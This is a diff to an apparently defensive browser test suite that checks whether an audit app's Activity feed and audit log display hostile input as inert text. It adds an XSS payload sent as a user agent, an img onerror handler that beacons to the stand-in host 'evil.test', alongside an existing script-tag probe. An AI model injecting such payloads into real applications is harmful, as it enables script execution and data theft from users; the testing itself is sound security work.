@@ -9,6 +9,14 @@ import { seedSession, SESSION_COOKIE, stackInfo, type Persona } from "./support/
  * those fields must show the hostile text as text, run none of it and send nothing off the app's origin.
  */
 
+/**
+ * Sent as the user agent of a Compliance API call made with another key: the feed then records it in
+ * the call's `compliance_api_accessed` activity, which the Activity page shows.
+ */
+/** The simulator's read-only key (design.md): not Docket's, as a leaked or second integration's key would be. */
+const OTHER_KEY = "sk-ant-api01-simulator-readonly";
+const HOSTILE_USER_AGENT = `<img src=x onerror="window.__xss=1;navigator.sendBeacon('https://evil.test/ua')">`;
+
 /** Typed by an auditor into the audit filter: the audit log then records it among a row's parameters. */
 const AUDIT_FILTER_PROBE = "<script>window.__xss=1</script><img src=x onerror=window.__xss=1>";
 
@@ -18,6 +26,8 @@ interface HostilePage {
   path: (fixtures: Fixtures) => string;
   /** Corpus text the page must show, so that a page rendering nothing fails too. */
   shows: (fixtures: Fixtures) => string[];
+  /** Puts the hostile text where the page will read it, before the page opens. */
+  prepare?: () => Promise<void>;
   /** Brings every hostile field on screen (checking each part while it is mounted) and returns the text read. */
   read?: (page: Page, fixtures: Fixtures, appOrigin: string) => Promise<string>;
 }
@@ -92,6 +102,25 @@ const HOSTILE_PAGES: HostilePage[] = [
     },
   },
   {
+    title: "the Activity Feed, after a Compliance API call with a hostile user agent, its JSON open",
+    persona: "auditor",
+    prepare: async () => {
+      const response = await fetch(`${stackInfo().apiBaseUrl}/v1/compliance/activities?limit=1`, {
+        headers: { "x-api-key": OTHER_KEY, "user-agent": HOSTILE_USER_AGENT },
+      });
+      expect(response.status).toBe(200);
+    },
+    path: () => `/activity?types=compliance_api_accessed&from=${new Date(Date.now() - 10 * 60_000).toISOString()}`,
+    shows: () => [HOSTILE_USER_AGENT],
+    read: async (page, _fixtures, appOrigin) => {
+      const row = page.getByRole("region", { name: "Activities" }).locator("tbody tr", { hasText: HOSTILE_USER_AGENT });
+      await row.getByText("JSON as sent by the API").click();
+      await expect(row.locator("pre")).toContainText(HOSTILE_USER_AGENT.replace(/"/g, '\\"'));
+      expect(await activeContent(page, appOrigin)).toEqual([]);
+      return page.locator("main").innerText();
+    },
+  },
+  {
     title: "the audit log, after a view filtered by hostile text",
     persona: "auditor",
     path: () => `/audit?actor=${encodeURIComponent(AUDIT_FILTER_PROBE)}`,
@@ -123,6 +152,7 @@ for (const hostilePage of HOSTILE_PAGES) {
       if (new URL(request.url()).origin !== appOrigin) foreignRequests.push(request.url());
     });
 
+    await hostilePage.prepare?.();
     const expectedTexts = hostilePage.shows(fixtures);
     await page.goto(hostilePage.path(fixtures));
     const text = hostilePage.read ? await hostilePage.read(page, fixtures, appOrigin) : await readMain(page, ...expectedTexts);
